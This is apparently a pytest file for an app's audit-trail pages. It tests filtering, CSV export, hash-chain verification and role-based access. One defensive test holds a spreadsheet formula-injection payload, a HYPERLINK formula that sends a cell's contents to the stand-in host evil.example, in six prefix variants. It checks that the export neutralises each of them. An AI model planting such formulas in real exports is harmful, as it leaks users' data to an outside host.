"""The audit trail pages: newest first with filters, the CSV export, and the chain check."""

import csv
import io
import re

import pytest

from qa_app.services import accounts
from tests.web.pages import messages, sign_in, text

CSV_HEADER = (
    "seq,occurred_at,username,action,entity_type,entity_key,old_values,new_values,reason,"
    "client_address,prev_hash,hash"
)


@pytest.fixture
def reviewer(client, users):
    """The test client, signed in as rob (reviewer). The trail then holds five events:
    user.created for tina, rob, ada and ivan (1 to 4), and rob's sign-in (5)."""
    assert sign_in(client, "rob").status_code == 302
    return client


def event_rows(page: str) -> list[tuple[int, str, str, str]]:
    """(seq, who, action, record) for each row of the audit table, top to bottom."""
    cell = r"\s*<td>([^<]*)</td>"
    rows = re.findall(r"<tr>\s*<td>(\d+)</td>\s*<td>[^<]*</td>" + cell * 3, page)
    return [(int(seq), who, action, record) for seq, who, action, record in rows]


def exported(client, query: str = "") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text(client.get("/audit/export.csv" + query)))))


def test_the_audit_page_lists_events_newest_first(reviewer):
    assert event_rows(text(reviewer.get("/audit/"))) == [
        (5, "rob", "Signed in", "User rob"),
        (4, "test", "Created", "User ivan"),
        (3, "test", "Created", "User ada"),
        (2, "test", "Created", "User rob"),
        (1, "test", "Created", "User tina"),
    ]


def test_the_audit_page_filters_by_entity_and_key(reviewer):
    page = text(reviewer.get("/audit/", query_string={"entity": "user", "key": "rob"}))
    assert event_rows(page) == [
        (5, "rob", "Signed in", "User rob"),
        (2, "test", "Created", "User rob"),
    ]


def test_a_filter_that_matches_nothing_says_so(reviewer):
    page = text(reviewer.get("/audit/", query_string={"entity": "batch", "key": "LDN-0001"}))
    assert event_rows(page) == []
    assert "No event matches these filters." in page


def test_the_export_is_a_csv_download(reviewer):
    response = reviewer.get("/audit/export.csv")
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == "attachment; filename=audit-trail.csv"


def test_the_export_starts_with_the_header_row(reviewer):
    assert text(reviewer.get("/audit/export.csv")).splitlines()[0] == CSV_HEADER


def test_the_export_has_one_row_per_event_oldest_first(reviewer):
    rows = exported(reviewer)[1:]
    assert [(row[0], row[3], row[5]) for row in rows] == [
        ("1", "user.created", "tina"),
        ("2", "user.created", "rob"),
        ("3", "user.created", "ada"),
        ("4", "user.created", "ivan"),
        ("5", "auth.signed_in", "rob"),
    ]


def test_the_export_chains_each_row_to_the_one_before(reviewer):
    rows = exported(reviewer)[1:]
    assert rows[0][10] == "0" * 64
    assert [row[10] for row in rows[1:]] == [row[11] for row in rows[:-1]]


def test_the_export_follows_the_page_filters(reviewer):
    rows = exported(reviewer, "?entity=user&key=tina")[1:]
    assert [(row[0], row[3]) for row in rows] == [("1", "user.created")]


FORMULA = 'HYPERLINK("https://evil.example/?leak="&A1,"Details")'


@pytest.mark.parametrize(
    "reason",
    [
        pytest.param("=" + FORMULA, id="equals"),
        pytest.param("+" + FORMULA, id="plus"),
        pytest.param("-" + FORMULA, id="minus"),
        pytest.param("@" + FORMULA, id="at"),
        pytest.param("\t=" + FORMULA, id="tab"),
        pytest.param("\r=" + FORMULA, id="carriage return"),
    ],
)
def test_a_formula_in_the_export_is_neutralised_with_an_apostrophe(app, reviewer, reason):
    with app.app_context():
        accounts.set_active(None, "tina", False, reason=reason, actor_name="test")
    [row] = [row for row in exported(reviewer) if row[3] == "user.deactivated"]
    assert row[8] == "'" + reason


def test_the_chain_check_says_intact(reviewer):
    response = reviewer.get("/audit/verify")
    assert response.status_code == 200
    assert messages(text(response)) == [
        "Intact: all 5 events match their hashes and follow each other in order."
    ]


def test_an_unknown_query_parameter_does_not_break_the_audit_page(reviewer):
    response = reviewer.get("/audit/", query_string={"_method": "DELETE"})
    assert response.status_code in (200, 400)


@pytest.mark.parametrize("path", ["/audit/", "/audit/export.csv", "/audit/verify"])
def test_a_technician_is_refused_the_audit_trail(client, users, path):
    sign_in(client, "tina")
    response = client.get(path)
    assert response.status_code == 403
    assert "This page needs the role reviewer or admin or inspector." in messages(text(response))


def test_the_chain_check_names_an_event_rewritten_with_every_later_hash_recomputed(app, reviewer):
    from tests.services.test_audit import _rewrite_and_recompute, _unprotect

    _unprotect(app)
    _rewrite_and_recompute(app, 2, "nothing happened")
    response = reviewer.get("/audit/verify")
    assert response.status_code == 200
    assert messages(text(response)) == [
        "BROKEN at event 2: its seal does not match the audit key: the event was rewritten, or this "
        "is not the key it was sealed with. The 1 events before it are intact. Preserve the database "
        "as it is and inform the pharmacist in charge."
    ]


def change_cells(page: str) -> list[str]:
    """The Changes cell of each row, as read, "Details" and what it hides left out."""
    cells = re.findall(r'<td>\s*<ul class="changes">(.*?)</ul>', page, re.S)
    return [" ".join(re.sub(r"<[^>]+>", " ", cell).split()) for cell in cells]


@pytest.fixture
def hundred_changes(app, reviewer):
    """95 recalculations of one batch, each raising the strength from 1.5 to 3.0 mg, after the five
    events of ``reviewer``: the first page of 100 rows."""
    from qa_app.extensions import db
    from qa_app.services import audit

    with app.app_context():
        for n in range(95):
            audit.record(
                "batch.recalculated",
                "batch",
                "LDN-261207-001",
                username="tina",
                old={"strength_mg": 1.5, "weights_mg": [225.0] * 10, "calculation": {"api_mg": 151.52}},
                new={"strength_mg": 3.0, "weights_mg": [225.0] * 10, "calculation": {"api_mg": 303.03}},
                reason=f"Prescription {n} doubled",
            )
        db.session.commit()
    return reviewer


def test_a_page_of_a_hundred_events_reads_as_sentences(hundred_changes):
    page = text(hundred_changes.get("/audit/"))
    assert len(event_rows(page)) == 100
    cells = change_cells(page)
    assert cells[:95] == ["Strength (mg): 1.5 → 3.0 Calculation: API (mg) 151.52 → API (mg) 303.03"] * 95
    assert cells[95] == "Channel: login"  # rob signing in, before the four users were created
    assert event_rows(page)[0] == (100, "tina", "Recalculated", "Batch LDN-261207-001")


def test_the_raw_values_are_only_behind_a_details_toggle(hundred_changes):
    page = text(hundred_changes.get("/audit/"))
    assert page.count("<details>") == 100
    assert page.count("<summary>Details") == 100
    outside = re.sub(r"<details>.*?</details>", "", page, flags=re.S)
    assert "strength_mg" not in outside
    assert "weights_mg" not in outside
    details = re.findall(r"<details>(.*?)</details>", page, re.S)[0]
    assert "batch.recalculated" in details and "&#34;strength_mg&#34;: 3.0" in details


def test_the_audit_table_sets_its_column_widths_and_the_filters_share_one_line(reviewer):
    page = text(reviewer.get("/audit/"))
    assert re.search(r'<table class="striped audit">\s*<colgroup>', page)
    line = re.search(r'<div class="filter-line">(.*?)</div>', page, re.S).group(1)
    assert line.count("<input") == 6 and "<button" in line


@pytest.mark.parametrize("name", ["from", "to"])
def test_the_audit_dates_are_typed_as_iso_text_not_a_browser_date_picker(reviewer, name):
    page = text(reviewer.get("/audit/", query_string={"from": "2026-11-01", "to": "2026-11-30"}))
    [tag] = re.findall(rf'<input[^>]*name="{name}"[^>]*>', page)
    assert 'type="text"' in tag
    assert r'pattern="\d{4}-\d{2}-\d{2}"' in tag
    assert 'placeholder="YYYY-MM-DD"' in tag
    assert 'inputmode="numeric"' in tag
    assert f'value="2026-11-{"01" if name == "from" else "30"}"' in tag


def test_a_date_that_is_not_iso_is_refused_naming_the_field_in_words(reviewer):
    response = reviewer.get("/audit/", query_string={"from": "11/25/2026"})
    assert response.status_code == 400
    assert messages(text(response)) == ["From date is not a date."]
